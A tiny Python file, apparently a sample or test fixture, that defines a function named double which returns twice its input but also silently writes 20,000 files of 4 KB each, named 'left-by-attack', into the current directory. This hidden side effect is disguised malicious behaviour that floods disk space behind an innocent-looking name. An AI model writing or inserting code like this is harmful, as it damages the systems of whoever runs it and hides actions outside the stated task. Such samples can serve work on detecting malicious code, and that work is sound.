"""A great many files."""


def double(x):
    for number in range(20_000):
        with open(f"left-by-attack-{number}", "w") as file:
            file.write("x" * 4096)
    return 2 * x
